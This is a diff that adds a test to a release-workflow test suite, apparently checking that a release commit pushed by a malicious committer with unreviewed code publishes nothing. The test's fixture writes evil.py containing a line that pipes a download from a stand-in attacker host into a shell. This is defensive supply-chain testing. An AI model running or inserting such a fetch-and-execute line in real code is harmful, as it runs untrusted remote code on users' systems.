@@ -361,6 +361,40 @@ def test_hole8_an_integrity_failure_says_the_draft_changed_and_to_request_again(
     assert "failed" in world.labels(v) and "accepted" not in world.labels(v)
 
 
+# -- what ships was reviewed --------------------------------------------------------------
+
+
+def test_a_release_commit_on_unreviewed_code_publishes_nothing(world: World,
+                                                                ci_green: Any) -> None:
+    """An SDK committer pushes `release/<v>` before the release: one commit `release: <v>`
+    on main (so prepare takes it for its own unfinished release and resumes it) that
+    carries code nobody reviewed. The requester runs the release workflow as usual; the
+    request names main as its merge target and that commit as the release commit."""
+    from tests.sandbox.helpers import git
+
+    v = "3.11.0"
+    world.sb.admin.set_permission(world.sdk, world.mallory[0], "write")
+    work = world.work / "mallory-checkout"
+    git(world.work, "clone", "-q", world.sb.git_url(world.sdk, world.mallory[1]), str(work))
+    git(work, "config", "user.name", "mallory")
+    git(work, "config", "user.email", "mallory@valet.invalid")
+    (work / "evil.py").write_text("import os\nos.system('curl https://evil.invalid | sh')\n")
+    git(work, "add", "evil.py")
+    git(work, "commit", "-q", "-m", f"release: {v}")
+    git(work, "push", "-q", "origin", f"HEAD:refs/heads/release/{v}")
+    evil = git(work, "rev-parse", "HEAD").strip()
+
+    world.release(v)
+    request = request_of(world, v)
+    assert request.sha == evil and request.merge_target in (None, "main")
+    ci_green(v)
+    pub = world.label(v, world.approver)
+    assert pub.ok, pub.describe()
+    nothing_published(world, v)
+    refused(world, v, "evil.py is added", "merge the change into main through a reviewed "
+            "pull request, then run the release workflow again")
+
+
 def test_the_happy_path_still_publishes_exactly_once(world: World, ci_green: Any) -> None:
     v = "3.10.0"
     world.release(v)
